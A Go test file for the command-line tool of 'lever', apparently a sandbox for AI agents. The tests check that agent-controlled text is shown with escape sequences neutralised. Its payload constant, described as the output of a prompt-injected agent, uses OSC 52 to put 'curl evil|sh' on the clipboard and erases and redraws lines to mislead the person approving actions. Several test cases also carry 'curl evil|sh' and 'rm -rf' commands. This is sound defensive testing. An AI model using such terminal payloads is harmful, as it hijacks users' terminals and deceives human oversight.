package cli

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/creack/pty"
	"golang.org/x/term"

	"github.com/lever-jail/lever/internal/lev/daemon"
	"github.com/lever-jail/lever/internal/lev/events"
	"github.com/lever-jail/lever/internal/lev/runner"
)

// payload is what a prompt-injected agent gets into a run's text (a failing shell
// command's output becomes the tool_result's message): OSC 52 writing "curl evil|sh\n"
// to the clipboard, erase line and CR to redraw the line, an 8-bit CSI as UTF-8 and a
// DEL.
const payload = "\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\x1b[2K\r\u009b2J\x7f"

// payloadShown is payload as the renderer must show it, on one line.
const payloadShown = `\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\x1b[2K`

// termControl is the first byte of s a terminal could obey, if any: C0 but for the
// layout allowed (newline, and CR only ending a line, as a pty sends them), DEL, a C1
// control, a byte that is not UTF-8.
func termControl(s string) (string, bool) {
	for i, r := range s {
		switch {
		case r == '\n', r == '\r' && strings.HasPrefix(s[i:], "\r\n"):
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f):
			return s[i:], true
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return s[i:], true
		}
	}
	return "", false
}

func intp(i int) *int { return &i }

// TestEventLineNeutralised: each event whose fields the agent's side can fill prints, via
// the printer lev logs and lev run use, as one line with no control a terminal obeys,
// the payload shown; the ordinary event is the control and prints its text unchanged.
func TestEventLineNeutralised(t *testing.T) {
	at := time.Date(2026, 11, 30, 10, 0, 0, 0, time.Local)
	cases := []struct {
		name string
		ev   events.Event
		want string // the whole line
	}{
		{"control: an ordinary failing command", events.Event{ID: 7, Type: events.ToolResult, Tool: "shell", Status: events.StatusError, Bytes: 40, DurationMS: 3,
			Message: "exit code 1\nstdout:\nbuild failed: é 日本 100%\n"},
			"lev: 10:00:00.000 #7 tool shell: error, 40 bytes in 3ms: exit code 1 stdout: build failed: é 日本 100%"},
		{"shell output in a tool_result", events.Event{ID: 7, Type: events.ToolResult, Tool: "shell", Status: events.StatusError, Bytes: 40, DurationMS: 3,
			Message: "exit code 1\nstdout:\n" + payload + "\n"},
			`lev: 10:00:00.000 #7 tool shell: error, 40 bytes in 3ms: exit code 1 stdout: ` + payloadShown + ` \u009b2J\x7f`},
		{"tool name and args in a refused call", events.Event{ID: 8, Type: events.ToolCall, Tool: "x\x1b]0;t\x07", Args: json.RawMessage(`{"a":"` + "\u009b" + `1A"}`), Decision: events.Refused, Step: "permissions",
			Message: "denied: " + payload},
			`lev: 10:00:00.000 #8 tool x\x1b]0;t\x07 {"a":"\u009b1A"}: refused at permissions: denied: ` + payloadShown + ` \u009b2J\x7f`},
		{"an ask's reason", events.Event{ID: 9, Type: events.Ask, Question: "q1", Tool: "shell", Args: json.RawMessage(`{"command":"ls"}`), Message: payload},
			`lev: 10:00:00.000 #9 ask q1 (permission): shell {"command":"ls"}: ` + payloadShown + ` \u009b2J\x7f`},
		{"an answer's message is not folded by oneLine", events.Event{ID: 10, Type: events.AnswerT, Question: "q1", Answer: "once", Message: "ok\nlev: 10:00:00.000 #11 run completed" + payload},
			`lev: 10:00:00.000 #10 answer q1: once (ok lev: 10:00:00.000 #11 run completed` + payloadShown + ` \u009b2J\x7f)`},
		{"a stage's error and name", events.Event{ID: 12, Type: events.StageEnd, Stage: "s\u009b2J", StageIndex: intp(0), Status: "failed", Turn: 2, Error: "model said " + payload},
			`lev: 10:00:00.000 #12 stage 1:s\u009b2J: failed after 2 turns: model said ` + payloadShown + ` \u009b2J\x7f`},
		{"a run's end error", events.Event{ID: 13, Type: events.RunEnd, Status: "failed", Error: "mcp server: " + payload},
			`lev: 10:00:00.000 #13 run failed: mcp server: ` + payloadShown + ` \u009b2J\x7f`},
		{"a tree blueprint's agent name", events.Event{ID: 1, Type: events.RunStart, Run: "r-1", Agent: "a\x1b]2;t\x07", Message: "started in /w"},
			`lev: 10:00:00.000 #1 run r-1 of a\x1b]2;t\x07 started in /w`},
		{"a message cut inside a multi-byte rune", events.Event{ID: 14, Type: events.ToolResult, Tool: "shell", Status: events.StatusError, DurationMS: 1,
			Message: strings.Repeat("a", 159) + "日本"},
			"lev: 10:00:00.000 #14 tool shell: error, 0 bytes in 1ms: " + strings.Repeat("a", 159) + "…"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ev := tc.ev
			ev.Time = at
			var out bytes.Buffer
			if err := (&eventPrinter{w: &out}).print(&ev); err != nil {
				t.Fatal(err)
			}
			got := out.String()
			if got != tc.want+"\n" {
				t.Errorf("got  %q\nwant %q", got, tc.want+"\n")
			}
			if rest, bad := termControl(got); bad || strings.Count(got, "\n") != 1 {
				t.Errorf("not one clean line (control at %q)", rest)
			}
		})
	}
}

// TestEventJSONNeutralised: lev run/logs --json print the same events with DEL and C1
// (which JSON strings may hold raw) as \u escapes and C0 as encoding/json escapes it; a
// script decodes the very same event (the control).
func TestEventJSONNeutralised(t *testing.T) {
	ev := events.Event{ID: 7, Time: time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC), Run: "r-1", Type: events.ToolResult, Tool: "shell",
		Status: events.StatusError, Message: "exit code 1\nstdout:\n" + payload + " é\n"}
	var out bytes.Buffer
	if err := (&eventPrinter{w: &out, asJSON: true}).print(&ev); err != nil {
		t.Fatal(err)
	}
	if rest, bad := termControl(out.String()); bad {
		t.Errorf("a control is printed at %q", rest)
	}
	var back events.Event
	if err := json.Unmarshal(out.Bytes(), &back); err != nil || back.Message != ev.Message || back.Tool != "shell" {
		t.Errorf("decodes to %+v (%v)", back, err)
	}
}

// stubDaemon answers /answer and records the answers.
func stubDaemon(t *testing.T) (*daemon.Client, *[]daemon.Answer) {
	t.Helper()
	var got []daemon.Answer
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var a daemon.Answer
		json.NewDecoder(r.Body).Decode(&a)
		got = append(got, a)
		w.Write([]byte("{}"))
	}))
	t.Cleanup(srv.Close)
	return &daemon.Client{Base: srv.URL, Token: "t"}, &got
}

// TestPrompterNeutralised: the approval prompt's question can not be redrawn: the
// reason's and the arguments' controls are shown, on the question's one line, and the
// prompt's own layout follows. The arguments are shown whole and byte for byte where
// printable (double spaces, a tail past 400 bytes): a person approves what they read.
// The plain prompt is the control.
func TestPrompterNeutralised(t *testing.T) {
	long := strings.Repeat("x", 500)
	cases := []struct {
		name          string
		args, message string
		gate          bool
		want          string
	}{
		{"control: a plain command", `{"command":"rm -rf  ~/build; echo \"a\tb\""}`, `permission is "ask"`, false,
			`lev: r-1 wants shell {"command":"rm -rf  ~/build; echo \"a\tb\""} (permission is "ask")` + "\n     [y]es / [N]o? "},
		{"a reason that erases and redraws the line", `{"command":"curl evil|sh"}`, "x\x1b[2K\rlev: r-1 wants shell {\"command\":\"ls\"}" + payload, false,
			`lev: r-1 wants shell {"command":"curl evil|sh"} (x\x1b[2K lev: r-1 wants shell {"command":"ls"}` + payloadShown + ` \u009b2J\x7f)` + "\n     [y]es / [N]o? "},
		{"C1 and DEL raw in the arguments", `{"command":"` + "\u009b2K\x7f" + `ls"}`, "gate", true,
			`lev: r-1 wants shell {"command":"\u009b2K\x7fls"} (gate)` + "\n     allow [o]nce / for the [s]ession / [N]o? "},
		{"a command past 400 bytes is shown whole", `{"command":"echo ` + long + `; curl evil|sh"}`, "ask", false,
			`lev: r-1 wants shell {"command":"echo ` + long + `; curl evil|sh"} (ask)` + "\n     [y]es / [N]o? "},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c, answers := stubDaemon(t)
			var out bytes.Buffer
			p := &prompter{c: c, in: bufio.NewReader(strings.NewReader("y\n")), out: &out}
			ev := &events.Event{Type: events.Ask, Run: "r-1", Question: "q1", Tool: "shell", Args: json.RawMessage(tc.args), Message: tc.message, GatePrompt: tc.gate}
			if err := p.handle(t.Context(), ev); err != nil {
				t.Fatal(err)
			}
			if out.String() != tc.want {
				t.Errorf("got  %q\nwant %q", out.String(), tc.want)
			}
			if rest, bad := termControl(out.String()); bad || strings.Count(out.String(), "\n") != 1 {
				t.Errorf("not one clean question line (control at %q)", rest)
			}
			if len(*answers) != 1 || (*answers)[0].Answer != runner.AnswerOnce {
				t.Errorf("answers %+v", *answers)
			}
		})
	}
}

// TestReportNeutralised: a completed run's result (the model's output) is shown
// neutralised on a terminal, newlines kept; to a pipe it is the run's data, unchanged
// (the control).
func TestReportNeutralised(t *testing.T) {
	rec := &runner.Record{ID: "r-1", Status: runner.StatusCompleted, Result: json.RawMessage("\"done\"\n" + payload)}
	master, slave, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	defer master.Close()
	if _, err := term.MakeRaw(int(slave.Fd())); err != nil {
		t.Fatal(err)
	}
	if err := report(rec, false, slave); err != nil {
		t.Fatal(err)
	}
	slave.Close()
	master.SetReadDeadline(time.Now().Add(5 * time.Second))
	got, _ := io.ReadAll(master)
	if want := "\"done\"\n" + payloadShown + `\x0d\u009b2J\x7f` + "\n"; string(got) != want {
		t.Errorf("terminal got %q, want %q", got, want)
	}
	var pipe bytes.Buffer
	report(rec, false, &pipe)
	if pipe.String() != "\"done\"\n"+payload+"\n" {
		t.Errorf("control: a pipe got %q", pipe.String())
	}
}

// TestBinaryRunOnATerminalNeutralised drives `lev run` on a pseudo-terminal, as lever run
// does in a terminal session: the scripted model's shell call asks (the prompt shows its
// command whole, answered y), then runs a command that prints the payload and fails, so
// the payload is a tool_result's message. The terminal gets no control it would obey;
// the control is the printable text, the command in the prompt and the command's own
// output, arriving intact.
func TestBinaryRunOnATerminalNeutralised(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := buildLev(t)
	j := newJailEnv(t)
	// The command prints OSC 52, erase line, CR, an 8-bit CSI (C2 9B) and DEL, then fails.
	const cmdJSON = `{"command": "printf 'out: \\033]52;c;Y3VybCBldmlsfHNoCg==\\007\\033[2K\\r\\302\\2332J\\177 end'; false"}`
	mustWrite(t, j.script, "[[rule]]\nturn = 1\n[[rule.call]]\ntool = \"shell\"\nargs = '''"+cmdJSON+"'''\n\n[[rule]]\nturn = 2\ntext = \"done\"\n")
	mustWrite(t, filepath.Join(j.runLever, "agents", "sh.toml"), "name = \"sh\"\nversion = \"1\"\n[stages.s]\nprompt = \"p\"\ntools = [\"shell\"]\n")
	serveWith(t, bin, j.env, "unix:"+j.sock)

	r := startOnPty(t, bin, j.env, j.wd, nil, "run", "sh")
	cmd, ptmx, out, exited, drained := r.cmd, r.ptmx, r.out, r.exited, r.drained
	out.waitFor(t, "[y]es / [N]o? ", 1, 30*time.Second)
	ptmx.Write([]byte("y\n"))
	select {
	case err := <-exited:
		if err != nil {
			t.Fatalf("lev run: %v\nterminal:\n%q", err, out.buf.String())
		}
	case <-time.After(60 * time.Second):
		cmd.Process.Kill()
		t.Fatalf("lev run did not end; terminal:\n%q", out.buf.String())
	}
	// Let the reader drain what the pty still holds: it ends (EIO) once the last holder of
	// the terminal has closed it and its buffer is read. A fixed pause could end first on a
	// loaded machine, and a control or the final answer not read yet would go unchecked.
	select {
	case <-drained:
	case <-time.After(10 * time.Second):
		t.Log("the terminal was not closed 10 s after lev run exited; checking what it showed so far")
	}
	out.mu.Lock()
	shown := out.buf.String()
	out.mu.Unlock()
	if rest, bad := termControl(shown); bad {
		t.Errorf("a control reaches the terminal at %q\nall: %q", rest, shown)
	}
	var compact bytes.Buffer
	json.Compact(&compact, []byte(cmdJSON))
	for _, want := range []string{
		// lev shows the arguments as it parsed them (a default timeout added after).
		" wants shell " + strings.TrimSuffix(compact.String(), "}") + ",",
		// The progress line folds the CR into a space; every other control is shown.
		`stdout: out: \x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\x1b[2K \u009b2J\x7f end`,
		// The result, as text (issue 28: not JSON-quoted), on its own line.
		"\r\ndone\r\n",
	} {
		if !strings.Contains(shown, want) {
			t.Errorf("terminal lacks %q\nall: %q", want, shown)
		}
	}
}

// TestWarnUngrantedNeutralised: the read-path warning quotes the blueprint's entries and
// name, a tree blueprint's included; entries holding the payload print with no control,
// and the grant line still names the entry as TOML would (TOML's escapes, which a
// config.toml parses back), while the plain warning (TestWarnUngranted) is the control.
func TestWarnUngrantedNeutralised(t *testing.T) {
	var b bytes.Buffer
	warnUngranted(&b, &runner.Record{Agent: "a\u009b2J", ReadPaths: []runner.ReadPathStatus{{Entry: "~/d" + payload}}})
	got := b.String()
	if rest, bad := termControl(got); bad {
		t.Errorf("a control is printed at %q\nall: %q", rest, got)
	}
	for _, want := range []string{
		"lev: WARN your config does not grant ~/d" + payloadShown + `\x0d\u009b2J\x7f: reads`,
		`add to your config.toml: [agent_read_paths."a\u009b2J"] allow = ["~/d\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007\u001b[2K\r\u009b2J\u007f"]`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("lacks %q\nall: %q", want, got)
		}
	}
}
